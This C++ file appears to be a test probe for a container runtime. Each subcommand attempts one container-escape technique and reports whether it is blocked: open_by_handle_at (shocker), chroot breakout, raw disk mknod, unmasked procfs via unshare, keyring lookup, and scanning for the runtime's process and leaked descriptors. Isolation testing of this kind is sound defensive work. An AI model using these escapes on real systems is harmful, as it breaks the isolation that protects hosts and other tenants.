// A program inside a container that tries one way out. It prints "out: …" when the way is open, and what stopped it otherwise.
#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <string>
#include <string_view>

namespace {

int stopped(const char* what) {
  std::printf("stopped: %s: %s\n", what, std::strerror(errno));
  return 1;
}
int out(const std::string& what) {
  std::printf("out: %s\n", what.c_str());
  return 0;
}

/// Files by number instead of by name ("shocker"): inode 2 is the root of most file systems.
int by_handle() {
  alignas(file_handle) unsigned char bytes[sizeof(file_handle) + 8] = {};
  auto* handle = reinterpret_cast<file_handle*>(bytes);
  handle->handle_bytes = 8;
  handle->handle_type = 1;
  bytes[sizeof(file_handle)] = 2;
  const int mount = ::open("/bin", O_RDONLY);
  const int fd = ::open_by_handle_at(mount, handle, O_RDONLY | O_DIRECTORY);
  return fd < 0 ? stopped("open_by_handle_at") : out("the host's file system by handle");
}

/// The session keyring of whoever started the container.
int key(const char* name) {
  const long id = ::syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", name, 0);
  return id < 0 ? stopped("keyctl") : out("a key of the caller's session");
}

/// The old way out of chroot: a folder held open above the new root.
int chroot_out(const char* marker) {
  const int top = ::open("/", O_RDONLY | O_DIRECTORY);
  ::mkdir("/tmp/jail", 0755);
  if (::chroot("/tmp/jail") != 0) return stopped("chroot");
  if (::fchdir(top) != 0) return stopped("fchdir");
  for (int i = 0; i < 64; ++i) {
    if (::chdir("..") != 0) return stopped("chdir");
  }
  if (::chroot(".") != 0) return stopped("chroot");
  return ::access(marker, F_OK) == 0 ? out("the host's root by chroot") : stopped("the marker is not there");
}

/// A device file of the host's disk, read.
int disk(const char* major_text, const char* minor_text) {
  const dev_t number = makedev(static_cast<unsigned>(std::atoi(major_text)), static_cast<unsigned>(std::atoi(minor_text)));
  if (::mknod("/tmp/disk", S_IFBLK | 0600, number) != 0) return stopped("mknod");
  const int fd = ::open("/tmp/disk", O_RDONLY);
  char byte = 0;
  return fd < 0 || ::read(fd, &byte, 1) != 1 ? stopped("open") : out("the host's disk");
}

/// Another procfs, without the masks of the first.
int new_proc() {
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) != 0) return stopped("unshare");
  const pid_t child = ::fork();
  if (child == 0) {
    if (::mount("proc", "/tmp", "proc", 0, nullptr) != 0) std::exit(stopped("mount"));
    std::exit(out("a procfs without masks"));
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  return WEXITSTATUS(status);
}

/// Every process that appears and is not ours is looked into, for some seconds: its root, descriptors, memory.
int watch(int seconds) {
  const time_t end = ::time(nullptr) + seconds;
  long seen = 0;
  while (::time(nullptr) < end) {
    for (pid_t pid = 2; pid < 40'000; ++pid) {
      if (pid == ::getpid()) continue;
      const std::string folder = "/proc/" + std::to_string(pid);
      char link[512] = {};
      if (::access(folder.c_str(), F_OK) != 0) {
        if (pid > 3000 && pid % 512 == 0) break;
        continue;
      }
      ++seen;
      if (::readlink((folder + "/exe").c_str(), link, sizeof link - 1) > 0 && std::strstr(link, "nagaya-oci") != nullptr) return out("the exe of " + std::to_string(pid));
      DIR* fds = ::opendir((folder + "/fd").c_str());
      while (const dirent* one = fds != nullptr ? ::readdir(fds) : nullptr) {
        std::memset(link, 0, sizeof link);
        if (::readlinkat(::dirfd(fds), one->d_name, link, sizeof link - 1) > 0 && std::strstr(link, "nagaya-oci.") != nullptr) return out(std::string("a descriptor ") + link);
      }
      if (fds != nullptr) ::closedir(fds);
    }
  }
  std::printf("stopped: nothing of the runtime could be looked into, of %ld looks\n", seen);
  return 1;
}

/// Descriptors that are no standard streams, and what they lead to.
int descriptors() {
  DIR* fds = ::opendir("/proc/self/fd");
  int found = 0;
  while (const dirent* one = ::readdir(fds)) {
    const int number = std::atoi(one->d_name);
    if (one->d_name[0] == '.' || number < 3 || number == ::dirfd(fds)) continue;
    ++found;
    char link[512] = {};
    ::readlinkat(::dirfd(fds), one->d_name, link, sizeof link - 1);
    std::printf("out: descriptor %d is %s\n", number, link);
  }
  if (found == 0) std::printf("stopped: no descriptors\n");
  return found == 0;
}

}  // namespace

int main(int argc, char** argv) {
  std::setvbuf(stdout, nullptr, _IONBF, 0);
  const std::string_view way = argc > 1 ? argv[1] : "";
  if (way == "handle") return by_handle();
  if (way == "key" && argc > 2) return key(argv[2]);
  if (way == "chroot" && argc > 2) return chroot_out(argv[2]);
  if (way == "disk" && argc > 3) return disk(argv[2], argv[3]);
  if (way == "proc") return new_proc();
  if (way == "watch" && argc > 2) return watch(std::atoi(argv[2]));
  if (way == "fds") return descriptors();
  return 2;
}
